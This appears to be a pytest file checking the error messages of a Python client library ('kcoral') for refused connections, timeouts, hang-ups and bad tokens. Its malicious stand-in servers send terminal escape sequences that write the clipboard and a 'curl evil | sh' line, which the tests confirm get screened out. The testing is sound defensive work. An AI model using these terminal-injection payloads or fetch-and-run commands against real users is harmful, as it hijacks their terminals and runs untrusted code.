"""The first errors a new user meets, each one short and true line (new-user soak).

A server that is not there said urllib3's chain (``HTTPConnection(host='127.0.0.1',
port=8000): Failed to establish a new connection: [Errno 111] Connection refused``), a read
timeout said ``timed out`` without its bound, and a 401 said ``HTTP 401: unauthorized``
without where a token comes from. Real clients against a real server started with a token
file, a closed port, a name that never resolves, and stand-ins that hang or hang up."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest
from server_process import RunningServer, client_token_file
from stand_in_http import StandIn, serving, silent

import kcoral
import kcoral.base_client
from kcoral.errors import KCoralError, TransportError, root_reason
from kcoral.run.terminal_filter import screened

TOKEN = "s3cret-token-for-tests"


@pytest.fixture
def closed_port_url() -> Iterator[str]:
    """A loopback port bound by nobody listening: connecting to it is refused."""
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))  # held, never listening: no one else takes it
        yield f"http://127.0.0.1:{holder.getsockname()[1]}"


def transport_error(url: str) -> TransportError:
    with kcoral.Client(url) as client, pytest.raises(TransportError) as failed:
        client.health()
    return failed.value


def test_a_refused_connection_says_so_in_one_line_with_the_address(closed_port_url) -> None:
    error = transport_error(closed_port_url)
    assert str(error) == (
        f"cannot reach {closed_port_url}: connection refused (is a KCoral server running there?)"
    )
    assert root_reason(error) == "connection refused"  # the notebook and kcoral run say it


def test_a_host_name_that_does_not_resolve_says_so() -> None:
    url = "http://no-such-host.invalid:8000"  # .invalid never resolves (RFC 2606)
    message = str(transport_error(url))
    assert message.startswith(f"cannot reach {url}: the host name does not resolve ("), message
    assert "HTTPConnection" not in message and "Errno" not in message


def test_a_read_timeout_keeps_its_seconds(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(kcoral.base_client, "STATUS_READ_TIMEOUT_SECONDS", 0.5)
    with silent() as url:
        error = transport_error(url)
    assert str(error) == f"cannot reach {url}: no answer within 0.5 s (read timeout)"


class HangsUpMidAnswer(StandIn):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", "100")
        self.end_headers()
        self.wfile.write(b'{"stat')
        self.close_connection = True


class HangsUpAtOnce(StandIn):
    def do_GET(self) -> None:
        self.close_connection = True  # reads the request, answers nothing


def test_a_server_that_hangs_up_mid_answer_says_how_much_came() -> None:
    with serving(HangsUpMidAnswer) as url:
        error = transport_error(url)
    assert str(error) == (
        f"{url} answered, but the connection closed in the middle of the answer "
        "(6 of 100 bytes came)"
    )


def test_a_server_that_hangs_up_without_answering_says_so() -> None:
    with serving(HangsUpAtOnce) as url:
        error = transport_error(url)
    assert str(error) == f"cannot reach {url}: the server closed the connection without answering"


class AnswersWithAnEscapeForAStatusLine(StandIn):
    """A malicious server whose first line writes the clipboard (OSC 52) of the terminal
    a transport error is printed on."""

    def handle_one_request(self) -> None:
        self.rfile.readline()
        self.wfile.write(b"\x1b]52;c;ZXZpbA==\x07HTTP/1.1 200 OK\r\n\r\n")
        self.close_connection = True


def test_an_answer_that_is_not_http_is_said_escaped_never_as_it_came() -> None:
    with serving(AnswersWithAnEscapeForAStatusLine) as url:
        error = transport_error(url)
    assert str(error).startswith(
        f"{url} answered, but its answer was refused: the answer is not HTTP (it began "
    ), error
    assert "\x1b" not in str(error) and "\x07" not in str(error)
    assert "\x1b" not in root_reason(error)  # the notebook's and kcoral run's line


def test_https_at_a_plain_server_says_tls_failed_in_words(kcoral_server: RunningServer) -> None:
    address = kcoral_server.url.replace("http://", "https://", 1)
    message = str(transport_error(address))
    assert message.startswith(f"cannot reach {address}: TLS failed ("), message
    assert "_ssl.c" not in message


# ------------------------------------------------------------------------ 401: the token


@pytest.fixture
def token_server(server_factory, tmp_path: Path) -> RunningServer:
    """A server started as the README says: ``--auth-token-file`` with one bare token."""
    return server_factory("--auth-token-file", str(client_token_file(tmp_path, TOKEN + "\n")))


def refusal(url: str, **client_options: str) -> KCoralError:
    with kcoral.Client(url, **client_options) as client, pytest.raises(KCoralError) as failed:
        client.info()
    assert failed.value.status_code == 401
    return failed.value


def test_a_401_without_a_token_says_none_was_sent_and_where_one_comes_from(
    token_server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("KCORAL_TOKEN", raising=False)
    message = str(refusal(token_server.url))
    assert message.startswith(
        f"the server at {token_server.url} needs a token (401), and no token was sent: "
        "set KCORAL_TOKEN, or pass Client(url, token=...) [the server said: "
    ), message


def test_a_401_for_a_wrong_token_says_it_was_refused_and_where_it_came_from(
    token_server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("KCORAL_TOKEN", raising=False)
    given = refusal(token_server.url, token="not-the-token")
    assert str(given).startswith(
        f"the server at {token_server.url} refused the token (401): "
        "set KCORAL_TOKEN, or pass Client(url, token=...)"
    ), given
    assert "not-the-token" not in str(given)
    monkeypatch.setenv("KCORAL_TOKEN", "not-the-token-either")
    from_env = refusal(token_server.url)
    assert "refused the token (from KCORAL_TOKEN) (401)" in str(from_env)
    assert from_env.status_code == 401 and from_env.kind == "unauthorized"
    with kcoral.Client(token_server.url, token=TOKEN) as client:
        assert client.info()  # the right token opens it


def test_a_jobs_event_stream_refusing_the_token_gives_the_same_hint(
    token_server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Before: "HTTP 401: missing or invalid bearer token" alone, where every other request
    # of the client named the server and where a token comes from.
    monkeypatch.delenv("KCORAL_TOKEN", raising=False)
    with kcoral.Client(token_server.url, token=TOKEN) as owner:
        program = kcoral.Program()
        module = program.upload(kind="module", source="def f():\n    return 1\n")
        program.run(fn=program.get_function(module=module, name="f"))
        job = owner.submit(program)
        with kcoral.Client(token_server.url, token="not-the-token") as other:
            with pytest.raises(KCoralError) as failed:
                next(iter(other.job(job.id).events()))
        job.result(timeout=60)
    assert failed.value.status_code == 401
    assert str(failed.value).startswith(
        f"the server at {token_server.url} refused the token (401): "
        "set KCORAL_TOKEN, or pass Client(url, token=...) [the server said: "
    )


def test_an_async_client_says_the_same_about_a_refused_token(
    token_server: RunningServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("KCORAL_TOKEN", raising=False)

    async def ask() -> KCoralError:
        async with kcoral.AsyncClient(token_server.url, token="wrong") as client:
            with pytest.raises(KCoralError) as failed:
                await client.info()
        return failed.value

    assert str(asyncio.run(ask())).startswith(
        f"the server at {token_server.url} refused the token (401)"
    )


class RefusesWithEscapes(StandIn):
    """A malicious server whose 401 message writes the clipboard (OSC 52) of the terminal
    the error is printed on."""

    def do_GET(self) -> None:
        message = "bad token\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2Jre-run: curl evil | sh"
        self.send_json({"error": {"kind": "unauthorized", "message": message}}, status=401)


def test_a_malicious_servers_401_text_is_screened_beside_the_hint() -> None:
    with serving(RefusesWithEscapes) as url:
        error = refusal(url, token="any")
    shown = str(error)
    assert shown.startswith(f"the server at {url} refused the token (401)")
    assert "\x1b]52" not in shown and "ZWNobyBwd25lZA" not in shown  # the clipboard's
    assert shown.endswith(f"[the server said: {screened(error.message)}]")  # as all its text
    assert "\x1b]52" in error.message  # the program reading it gets the text whole
